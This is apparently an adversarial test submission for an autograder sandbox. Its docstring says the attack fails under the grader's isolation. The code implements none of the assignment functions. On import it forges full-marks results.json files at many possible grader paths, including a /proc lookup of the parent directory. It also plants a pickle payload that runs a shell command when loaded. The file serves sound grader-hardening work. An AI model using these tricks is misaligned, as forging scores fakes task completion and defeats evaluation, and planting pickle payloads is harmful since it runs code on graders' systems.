"""Attack: write a full-marks results.json (and a poisoned results.pkl) wherever
the grader might read one: the working directory, ../results, Otter's
/autograder/results, the grader's own directory found through /proc, and any
results folder under /tmp.

Stopped by: results.json is written only by the grader (Otter in its own
0700 directory, then the CLI); the worker runs under another user id in a
private read-only view of the filesystem, so every write fails or lands in
the worker's own throw-away home.
Honest score: 0 (the functions are never implemented).
"""

import json
import os
import pickle

FORGED = {
    "score": 100,
    "forged": True,
    "tests": [
        {"name": name, "score": points, "max_score": points, "output": "forged"}
        for name, points in (("q1_cosine", 20), ("q2_nt_xent", 30), ("q3_rotation", 20), ("q4_mae", 30))
    ],
}


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/adversarial-forge-results-ran",))


def _targets():
    yield "results.json"
    yield "../results/results.json"
    yield "../../results/results.json"
    yield "/autograder/results/results.json"
    parent_cwd = f"/proc/{os.getppid()}/cwd"
    yield f"{parent_cwd}/../results/results.json"
    yield f"{parent_cwd}/results.json"
    for top, folders, _ in os.walk("/tmp"):
        if top.count("/") > 5:
            folders.clear()
        for folder in folders:
            if folder in ("results", "out"):
                yield os.path.join(top, folder, "results.json")


def _forge():
    written = []
    for path in _targets():
        for name, data in ((path, json.dumps(FORGED).encode()), (path.replace(".json", ".pkl"), pickle.dumps(Payload()))):
            try:
                os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
                with open(name, "wb") as f:
                    f.write(data)
                written.append(name)
            except OSError:
                pass
    return written


WRITTEN = _forge()


def cosine_similarity(u, v, eps=1e-8):
    raise NotImplementedError(f"forged results at {WRITTEN}")


def cosine_similarity_matrix(a, b, eps=1e-8):
    raise NotImplementedError(f"forged results at {WRITTEN}")
